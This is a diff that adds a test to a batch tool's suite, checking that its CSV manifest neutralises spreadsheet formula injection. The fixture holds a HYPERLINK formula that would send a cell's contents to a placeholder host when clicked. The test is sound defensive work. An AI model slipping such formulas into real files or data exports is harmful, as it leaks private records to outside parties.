@@ -651,3 +651,15 @@ def test_a_name_in_the_wrong_column_is_never_quoted(tmp_path, field, column):
     assert "Maria" not in result.stderr
     assert "Maria" not in (out / "manifest.jsonl").read_text()
     assert "Maria" not in (out / "manifest.csv").read_text()
+
+
+def test_the_csv_manifest_never_holds_a_formula(tmp_path):
+    """manifest.csv is opened in spreadsheets; a record number can come from anyone."""
+    path = roster(tmp_path, row('=HYPERLINK("http://x.example/?"&A1,"click")'), row("+1-MRN"))
+    out = tmp_path / "out"
+    run("batch", str(path), "--out-dir", str(out), "--check")
+    run("batch", str(path), "--out-dir", str(out))
+    with (out / "manifest.csv").open(newline="") as handle:
+        cells = [cell for line in csv.reader(handle) for cell in line]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    assert "'+1-MRN" in cells
